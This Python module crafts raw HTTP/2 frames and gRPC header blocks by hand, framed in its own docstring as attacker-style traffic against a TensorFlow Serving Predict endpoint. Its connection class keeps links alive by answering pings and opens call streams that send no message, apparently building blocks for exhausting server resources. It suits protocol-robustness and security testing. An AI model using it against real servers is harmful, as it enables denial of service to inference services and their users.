"""HTTP/2 as an attacker writes it: frames by hand, which no library would send. RFC 9113; headers by RFC 7541."""

import contextlib
import socket
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PREDICT = "/tensorflow.serving.PredictionService/Predict"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """Return a header as a literal without indexing, without Huffman coding."""
    return b"\0" + b"".join(_length(len(text)) + text.encode() for text in (name, value))


def _length(size: int) -> bytes:
    if size < 127:
        return bytes([size])
    rest, out = size - 127, bytearray([127])
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    out.append(rest)
    return bytes(out)


def call_headers(path: str = PREDICT) -> bytes:
    """Return the header block of a gRPC call."""
    named = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x"}
    named |= {"content-type": "application/grpc", "te": "trailers"}
    return b"".join(literal(name, value) for name, value in named.items())


class Http2:
    """A connection that has sent the preface and its settings. What the server sends is read and dropped."""

    def __init__(self, address: str, timeout: float = 20.0) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=timeout)
        self.closed = threading.Event()  # by the server
        self.sent = 0
        self._next = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))

    def read_all_the_while(self) -> None:
        """Read in a thread, and answer pings: a server keeps a connection alive only with these."""
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        with contextlib.suppress(OSError):
            self.socket.settimeout(None)
            buffer = b""
            while piece := self.socket.recv(1 << 16):
                buffer += piece
                while len(buffer) >= 9 and len(buffer) >= 9 + (size := int.from_bytes(buffer[:3], "big")):
                    if buffer[3] == PING and not buffer[4] & ACK:
                        self.socket.sendall(frame(PING, ACK, 0, buffer[9:17]))
                    buffer = buffer[9 + size :]
        self.closed.set()

    def send(self, data: bytes) -> None:
        """Send bytes. Raises OSError when the server has closed."""
        self.socket.sendall(data)
        self.sent += len(data)

    def open_call(self, path: str = PREDICT) -> int:
        """Send the headers of a gRPC call and no message; return its stream."""
        stream = self.next_stream()
        self.send(frame(HEADERS, END_HEADERS, stream, call_headers(path)))
        return stream

    def next_stream(self) -> int:
        """Return the number of a new stream."""
        stream, self._next = self._next, self._next + 2
        return stream

    def close(self) -> None:
        """Close the connection."""
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
